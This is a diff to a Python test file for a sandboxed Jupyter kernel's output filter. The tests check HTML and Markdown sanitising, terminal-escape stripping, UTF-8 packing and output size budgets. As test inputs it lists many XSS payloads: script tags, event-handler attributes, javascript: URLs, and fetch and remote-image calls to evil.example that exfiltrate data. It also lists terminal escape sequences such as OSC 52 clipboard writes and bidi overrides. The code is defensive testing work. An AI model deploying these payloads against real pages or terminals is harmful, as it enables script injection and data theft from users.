@@ -1,13 +1,30 @@
-"""The output filter: what sandboxed output may carry into the browser, and how much of it."""
+"""The output filter: a positive schema for what sandboxed output may carry into the browser and the
+terminal, and how much of it. The same payloads are proven in a real JupyterLab by
+tests/test_browser_jupyterlab.py; here each rule is checked on its own."""
 import base64
+import json
+import re
+import sys
 
 import pytest
 
-from sandbox_kernel.outputfilter import (OutputFilter, OutputRejected, sanitize_html, sanitize_markdown,
-                                         validate_plotly)
+from sandbox_kernel.outputfilter import (OutputFilter, OutputRejected, clean_text, pack_message,
+                                         render_markdown, sanitize_html, validate_image)
 
 PLOTLY = "application/vnd.plotly.v1+json"
+PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 16).decode()
+ATTRIBUTE = re.compile(r"<[a-z0-9]+((?:\s+[a-z-]+(?:=\"[^\"]*\")?)*)\s*/?>")
 
+
+def attributes_of(html: str) -> set[str]:
+    """Every attribute name in nh3's output (its attributes are always double-quoted)."""
+    names = set()
+    for m in ATTRIBUTE.finditer(html):
+        names |= set(re.findall(r"\s([a-z-]+)(?:=|\s|$)", m.group(1)))
+    return names
+
+
+# -- HTML: an explicit list of tags and attributes, no class/id/style, URLs only data:image or #x --
 
 @pytest.mark.parametrize("html", [
     "<script>alert(1)</script>",
@@ -20,87 +37,250 @@ PLOTLY = "application/vnd.plotly.v1+json"
     "<object data='x.swf'></object><embed src='x'>",
     "<form action='http://evil'><input></form>",
     "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<style>@import url(//evil.example/x.css)</style>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href='//evil.example/'>",
+    "<link rel=stylesheet href='//evil.example/x.css'>",
+    "<table background='//evil.example/x.png'><tr><td>x</td></tr></table>",
+    "<video poster='//evil.example/p.png'></video><audio src='//evil.example/a'></audio>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
 ])
-def test_html_loses_every_script_vector(html):
+def test_html_loses_every_script_and_remote_load(html):
     clean = sanitize_html(html).lower()
-    for bad in ("<script", "onerror", "onload", "javascript:", "<iframe", "srcdoc", "<object", "<embed",
-                "<form", "url("):
+    for bad in ("<script", "onerror", "onload", "ontoggle", "javascript:", "<iframe", "srcdoc", "<object",
+                "<embed", "<form", "url(", "evil.example", "<meta", "<base", "<link", "<style", "<svg",
+                "<video", "<audio"):
         assert bad not in clean
 
 
-def test_html_keeps_tables_and_drops_remote_images():
-    table = ('<style scoped>.dataframe td {color: red}</style><table border="1" class="dataframe">'
-             '<thead><tr style="text-align: right;"><th>a</th></tr></thead><tbody><tr><td>1</td></tr>'
-             '</tbody></table>')
-    clean = sanitize_html(table)
-    assert '<table border="1" class="dataframe">' in clean and "<td>1</td>" in clean
-    assert "text-align:right" in clean.replace(" ", "")
-    assert "color: red" not in clean  # the <style> block's text does not leak
-    png = "data:image/png;base64," + base64.b64encode(b"\x89PNG").decode()
-    assert png in sanitize_html(f'<img src="{png}">')
-    # A remote image would be fetched by the browser without a click: a data exfiltration channel.
-    assert "evil.example" not in sanitize_html('<img src="https://evil.example/?secret=1">')
+def test_html_keeps_no_class_id_or_style():
+    """UI redress: with class kept, output could wear JupyterLab's own classes and draw a fake dialog
+    over the page; ids clobber the page's names; style places and hides things."""
+    clean = sanitize_html('<div class="jp-Dialog lm-Widget" id="jp-main-dock-panel" style="position:fixed;'
+                          'inset:0">Restart?</div><span class=x>y</span>')
+    assert clean == "<div>Restart?</div><span>y</span>"
+    assert attributes_of(clean) == set()
 
 
-@pytest.mark.parametrize("markdown, gone", [
-    ("<script>alert(1)</script>", "<script"),
-    ("[click](javascript:alert(1))", "javascript:"),
-    ("[click]( JAVASCRIPT:alert(1))", "JAVASCRIPT:"),
-    ("[click](&#106;avascript:alert(1))", "&#106;"),
-    ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data:text"),
-    ("![x](https://evil.example/leak?d=secret)", "evil.example"),
-    ("[x]: javascript:alert(1)\n\n[y][x]", "javascript:"),
-    ("[x]: https://evil.example/p.png\n\n![y][x]", "evil.example"),
-    ("<img src=x onerror=alert(1)>", "<img"),
+def test_html_urls_are_only_inline_images_and_fragments():
+    png = "data:image/png;base64," + PNG
+    assert f'src="{png}"' in sanitize_html(f'<img src="{png}" alt="plot">')
+    assert 'href="#section-2"' in sanitize_html('<a href="#section-2">jump</a>')
+    for url in ("https://evil.example/?d=1", "//evil.example/x", "/files/secret.txt", "x.png",
+                "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml;base64,PHN2Zz4=",
+                "\\\\evil.example/x", "/\\evil.example/x", "\x01https://evil.example"):
+        clean = sanitize_html(f'<img src="{url}"><a href="{url}">x</a>')
+        assert "src=" not in clean and "href=" not in clean, url
+
+
+def test_pandas_tables_stay_tables():
+    import pandas as pd
+
+    html = pd.DataFrame({"city": ["a", "b"], "n": [1, 2]})._repr_html_()
+    clean = sanitize_html(html)
+    assert "<table>" in clean and "<th>city</th>" in clean and "<td>2</td>" in clean
+    assert "dataframe" not in clean  # the style block and the class are gone; JupyterLab styles tables
+
+
+def test_math_in_html_is_never_typeset():
+    """MathJax typesets $...$ in HTML outputs, and JupyterLab loads TeX's `html` package: `\\href` takes
+    a javascript: URL, `\\style` a url(), `\\class` a page class. Each $ and \\ is split into an element
+    of its own, so no pair of delimiters lies in one run of text."""
+    payloads = ["$\\href{javascript:alert(1)}{x}$", "$$\\style{background:url(//evil.example/x)}{x}$$",
+                "\\(\\class{jp-Dialog}{x}\\)", "\\[x\\]", "\\begin{align}x\\end{align}"]
+    for text in payloads:
+        for html in (sanitize_html(f"<p>{text}</p>"), render_markdown(text)):
+            runs = re.split(r"<[^>]*>", html)
+            for run in runs:
+                assert run.count("$") + run.count("\\") <= 1 and not run[1:].count("$"), (text, html)
+    # An honest price stays readable text.
+    assert "<span>$</span>5" in sanitize_html("<td>$5</td>")
+
+
+# -- Markdown: rendered in the kernel, published as sanitised HTML --------------------------------
+
+@pytest.mark.parametrize("markdown", [
+    # issue 9, 1: math span put back raw inside an attribute by JupyterLab's own markdown renderer
+    "![x]($\" onerror=\"fetch('//evil.example/x?'+document.domain)//$)",
+    "![x](a$\" onerror=\"fetch('//evil.example/x')//$)",
+    # 2: a fenced block's info string holding a quote
+    "```python\" onmouseover=\"fetch('//evil.example/h')\"\nprint(1)\n```",
+    # 3: remote loads the old regexes missed
+    "![](//evil.example/p.png?d=DATA)",
+    "[x]:\n  https://evil.example/p.png?d=DATA\n\n![y][x]",
+    "> [x]: https://evil.example/q.png\n>\n> ![y][x]",
+    "- ![a](https://evil.example/l.png)\n- item",
+    "![a \\] b](https://evil.example/b.png)",
+    "[x]: <https://evil.example/angle.png>\n\n![y][x]",
+    "![y](<https://evil.example/s p.png>)",
+    "<img src=//evil.example/raw.png>",
+    "<script>fetch('//evil.example/s')</script>",
+    "[click](javascript:fetch('//evil.example/j'))",
+    "[click](&#106;avascript:fetch('//evil.example/e'))",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "<https://evil.example/autolink>",
 ])
-def test_markdown_has_no_raw_html_or_dangerous_links(markdown, gone):
-    assert gone not in sanitize_markdown(markdown)
+def test_markdown_cannot_script_or_load(markdown):
+    html = render_markdown(markdown)
+    assert "<script" not in html and "<img src=/" not in html  # raw HTML is text, never markup
+    assert not re.search(r'<(?:[^>"]|"[^"]*")*\son[a-z]+=', html)  # no event handler attribute
+    assert not re.search(r"(src|href)=\"(?!#|data:image/)", html)  # no URL but fragments and data images
+    assert attributes_of(html) <= {"href", "src", "alt", "title", "start"}
 
 
-def test_markdown_keeps_ordinary_formatting_and_links():
-    text = "# Title\n\n**bold** and [docs](https://example.org/a) and ![plot](plot.png)\n\n> quote"
-    assert sanitize_markdown(text) == text
+def test_markdown_renders_formatting():
+    html = render_markdown("# Title\n\n*em* **strong** `code`\n\n- a\n- b\n\n> quote\n\n| a |\n|---|\n| 1 |\n")
+    for tag in ("<h1>Title</h1>", "<em>em</em>", "<strong>strong</strong>", "<code>code</code>", "<li>a</li>",
+                "<blockquote>"):
+        assert tag in html
 
 
-def test_plotly_figure_is_validated():
-    fig = {"data": [{"type": "scatter", "x": [1, 2], "y": [3, 4]}], "layout": {"title": {"text": "t"}},
-           "config": {"responsive": True, "plotlyServerURL": "https://evil.example", "topojsonURL": "//x"}}
-    clean = validate_plotly(fig)
-    assert clean["data"] == fig["data"] and clean["config"] == {"responsive": True}
-    for bad in ({"data": "nope"}, [], {"data": [1]}, {"data": [], "script": "x"},
-                {"data": [], "layout": {"images": [{"source": "https://evil.example/x.png"}]}},
-                {"data": [{"type": "scatter", "text": "<a href='javascript:alert(1)'>x</a>"}]},
-                {"data": [{"x": object()}]}):
+def test_markdown_links_show_their_address_as_text():
+    html = render_markdown("see [the docs](https://example.org/a?b=1) or [below](#below)")
+    assert "the docs (https://example.org/a?b=1)" in html and "href=\"https" not in html
+    assert '<a href="#below">below</a>' in html
+
+
+def _python_calls(fn, *args) -> int:
+    """How many Python-level calls `fn(*args)` makes: a deterministic measure of work."""
+    calls = 0
+
+    def profile(frame, event, arg):
+        nonlocal calls
+        if event in ("call", "c_call"):
+            calls += 1
+
+    sys.setprofile(profile)
+    try:
+        fn(*args)
+    finally:
+        sys.setprofile(None)
+    return calls
+
+
+@pytest.mark.parametrize("unit", ["]()", "[", "![", "*a", "_", "`", "> ", "- ", "[a]: b\n", "<", "\\",
+                                  "&#", "![x](", "[x][", "**", "$", "\n"])
+def test_markdown_work_is_linear(unit):
+    """Issue 8, 1: the old sanitiser was quadratic in `]()` and hung the kernel. The work the renderer
+    does (Python calls, which include every regex call) grows linearly with the input."""
+    small = _python_calls(render_markdown, unit * 2_000)
+    large = _python_calls(render_markdown, unit * 8_000)
+    assert large < small * 4 * 1.6 + 1000, (unit, small, large)
+
+
+def test_markdown_over_the_cap_is_shown_as_text():
+    cell = OutputFilter().cell()
+    data, _ = cell.bundle({"text/markdown": "]()" * 200_000})
+    assert set(data) == {"text/plain"} and data["text/plain"].startswith("]()")
+    assert cell.filtered and "markdown" in cell.filtered[0]["reason"]
+    # Many values below the per-value cap: the cell's markdown budget runs out too.
+    cell = OutputFilter().cell()
+    kinds = [set(cell.bundle({"text/markdown": "![" * 20_000})[0]) for _ in range(5)]
+    assert kinds[0] == {"text/html"} and kinds[-1] == {"text/plain"}
+
+
+def test_markdown_becomes_html_and_the_cells_html_wins():
+    data, _ = OutputFilter().cell().bundle({"text/markdown": "**b**", "text/plain": "b"})
+    assert data == {"text/html": "<p><strong>b</strong></p>\n", "text/plain": "b"}
+    data, _ = OutputFilter().cell().bundle({"text/markdown": "**b**", "text/html": "<i>i</i>"})
+    assert data == {"text/html": "<i>i</i>"}
+
+
+# -- Text: what a terminal or the browser shows as text -------------------------------------------
+
+@pytest.mark.parametrize("raw, gone", [
+    ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]"),     # OSC 8 link
+    ("\x1b]52;c;ZXZpbA==\x07", "\x1b]"),                                 # OSC 52 clipboard write
+    ("\x1b[2J\x1b[H", "\x1b[2J"),                                        # clear screen, cursor home
+    ("\x1b]0;title\x07", "\x07"),                                        # window title, bell
+    ("secret\rfake", "\r"),                                              # overwrite the line
+    ("\x1bP+q\x1b\\", "\x1bP"),                                          # DCS
+    ("\x9b31m", "\x9b"),                                                 # 8-bit CSI
+    ("\x1b[8mhidden\x1b[0m", "\x1b[8m"),                                 # conceal
+    ("a\x08\x08b", "\x08"),                                              # backspace
+    ("\u202eevil\u202c", "\u202e"),                                      # bidi override
+    ("\u2066x\u2069", "\u2066"),                                         # bidi isolate
+    ("a\ud800b", "\ud800"),                                              # lone surrogate
+])
+def test_text_loses_terminal_controls(raw, gone):
+    clean = clean_text(raw)
+    assert gone not in clean
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", clean.replace("\x1b[0m", ""))
+
+
+def test_text_keeps_newlines_tabs_and_colours():
+    coloured = "\x1b[0;31mValueError\x1b[0m: bad\n\tat \x1b[1;38;5;208mline 3\x1b[39m\n"
+    assert clean_text(coloured) == coloured
+    assert clean_text("50%\r100%\r\n") == "50%\n100%\n"
+    assert clean_text("\u202eabc") == "<U+202E>abc"
+    assert clean_text("caf\u00e9 \U0001F600") == "caf\u00e9 \U0001F600"
+
+
+def test_streams_results_and_errors_are_cleaned():
+    cell = OutputFilter().cell()
+    assert cell.stream("stdout", "a\x1b]52;c;eA==\x07b\n") == [("stdout", "a\u241b]52;c;eA==\u2407b\n")]
+    data, _ = cell.bundle({"text/plain": "x\x1b[2Jy"})
+    assert data["text/plain"] == "x\u241b[2Jy"
+    err = cell.error("E\x1b]0;t\x07", "v\rw", ["\x1b[31mline\x1b[0m", "\x1b]8;;//e\x07l"])
+    assert err == {"ename": "E\u241b]0;t\u2407", "evalue": "v\nw",
+                   "traceback": ["\x1b[31mline\x1b[0m", "\u241b]8;;//e\u2407l"]}
+
+
+# -- The wire: every message is valid UTF-8 JSON ----------------------------------------------------
+
+def test_every_message_packs_to_valid_utf8():
+    """Issue 8, 3: print('a\\ud800b') made the reply fail to serialise and the client waited forever."""
+    for value in ("a\ud800b", "\udc80", "\udfff\ud800", ["\ud83d"], {"k\ud800": "v"}):
+        packed = pack_message({"text": value})
+        packed.decode("utf-8")  # strict: raises on anything invalid
+        assert "\ufffd" in json.loads(packed)["text"].__repr__() or "\ufffd" in packed.decode()
+    assert json.loads(pack_message({"s": "\U0001F600"}))["s"] == "\U0001F600"  # a real pair stays
+    assert json.loads(pack_message({"x": [float("nan"), {"y": float("inf")}]})) == {"x": [None, {"y": None}]}
+
+
+# -- Images and JSON ---------------------------------------------------------------------------------
+
+def test_images_are_decoded_and_checked():
+    assert validate_image(PNG, "image/png") == PNG
+    jpeg = base64.b64encode(b"\xff\xd8\xff\xe0" + b"\0" * 8).decode()
+    assert validate_image(jpeg, "image/jpeg") == jpeg
+    for bad in ("<script>", base64.b64encode(b"<svg onload=alert(1)>").decode(), "!!!!", 5):
         with pytest.raises(OutputRejected):
-            validate_plotly(bad)
+            validate_image(bad, "image/png")
 
 
-def test_bundle_keeps_only_allowlisted_types():
+def test_bundle_keeps_only_types_the_kernel_rebuilds():
     cell = OutputFilter().cell()
     data, _ = cell.bundle({"text/plain": "x", "application/javascript": "alert(1)",
                            "text/html": "<b>ok</b><script>alert(1)</script>",
                            "image/svg+xml": "<svg onload=alert(1)>",
                            "application/vnd.jupyter.widget-view+json": {"model_id": "x"}})
-    assert set(data) == {"text/plain", "text/html"}
-    assert data["text/html"] == "<b>ok</b>"
+    assert data == {"text/plain": "x", "text/html": "<b>ok</b>"}
     assert {f["mime"] for f in cell.filtered} == {"application/javascript", "image/svg+xml",
                                                   "application/vnd.jupyter.widget-view+json"}
     assert cell.bundle({"application/javascript": "alert(1)"}) is None
     assert cell.bundle({"image/png": "<script>"}) is None
 
 
-def test_operator_can_widen_the_allowlist():
-    cell = OutputFilter(allowlist=("text/plain", "image/svg+xml")).cell()
-    data, _ = cell.bundle({"image/svg+xml": "<svg></svg>", "text/html": "<b>x</b>"})
-    assert data == {"image/svg+xml": "<svg></svg>"}
+def test_operator_extra_types_must_be_json_data():
+    """A type the kernel cannot rebuild would reach the browser as the cell wrote it: an operator can
+    add JSON types (published as re-serialised data), never SVG, JavaScript or HTML-like text."""
+    filt = OutputFilter(allowlist=("text/plain", "image/svg+xml", "application/javascript",
+                                   "application/vnd.vega.v5+json"))
+    assert filt.allowlist == ("text/plain", "application/vnd.vega.v5+json")
+    assert filt.ignored == ["image/svg+xml", "application/javascript"]
+    data, _ = filt.cell().bundle({"image/svg+xml": "<svg></svg>", "application/vnd.vega.v5+json": {"a": 1}})
+    assert data == {"application/vnd.vega.v5+json": {"a": 1}}
 
 
 def test_metadata_keeps_only_layout_hints():
     _, metadata = OutputFilter().cell().bundle(
-        {"image/png": "AAAA"}, {"image/png": {"width": 10, "onload": "x"}, "text/html": {"isolated": True},
-                                "application/javascript": {"x": 1}})
+        {"image/png": PNG}, {"image/png": {"width": 10, "onload": "x"}, "text/html": {"isolated": True},
+                             "application/javascript": {"x": 1}})
     assert metadata == {"image/png": {"width": 10}}
 
+
+# -- The budget: every copy that leaves the kernel counts --------------------------------------------
 
 def test_stream_head_and_tail_with_marker():
     cell = OutputFilter(text_bytes=1000).cell()
@@ -116,6 +296,12 @@ def test_stream_head_and_tail_with_marker():
     assert cell.truncated and cell.cut_bytes == 200 * 10 - len(live) - len(end)
 
 
+def test_one_huge_stream_chunk_is_cut_before_it_is_cleaned():
+    cell = OutputFilter(text_bytes=1000).cell()
+    out = cell.stream("stdout", "\u202e" * 10_000_000)
+    assert sum(len(t.encode()) for _, t in out) <= 750 and cell.truncated
+
+
 def test_small_output_is_untouched():
     cell = OutputFilter(text_bytes=1000).cell()
     assert cell.stream("stdout", "hello\n") == [("stdout", "hello\n")]
@@ -128,6 +314,31 @@ def test_display_over_the_rich_budget_becomes_a_note():
     data, _ = cell.bundle({PLOTLY: fig, "text/plain": "Figure"})
     assert set(data) == {"text/plain"} and "omitted" in data["text/plain"]
     assert cell.truncated
+
+
+def test_policy_output_limit_caps_displays_too():
+    """Issue 8, 2: under a 1 MB output limit a cell published 18.5 MB of charts."""
+    cell = OutputFilter().cell(output_bytes=1_000_000)
+    big = {"data": [{"type": "scatter", "y": list(range(100_000))}]}
+    published = 0
+    for _ in range(6):
+        bundle = cell.bundle({PLOTLY: big, "text/plain": "Figure"})
+        published += len(json.dumps(bundle[0]))
+    assert published < 1_100_000 and cell.truncated
+
+
+def test_summary_copies_count_against_the_same_budget():
+    cell = OutputFilter(rich_bytes=2_000_000).cell()
+    fig = {"data": [{"type": "scatter", "y": list(range(100_000))}]}
+    size = len(json.dumps(fig))
+    assert 600_000 < size < 1_000_000
+    assert cell.bundle({PLOTLY: fig}) is not None        # published: one copy
+    assert cell.charge_chart(fig) == fig                 # the summary's copy fits: two
+    assert cell.charge_chart(fig) is None                # a third does not
+    assert cell.truncated and "reply summary" in cell.filtered[-1]["reason"]
+    text_cell = OutputFilter(text_bytes=1000).cell()
+    text_cell.stream("stdout", "x" * 700)
+    assert len(text_cell.charge_text("y" * 700)) == 300 and text_cell.truncated
 
 
 def test_huge_text_plain_result_is_cut_head_and_tail():
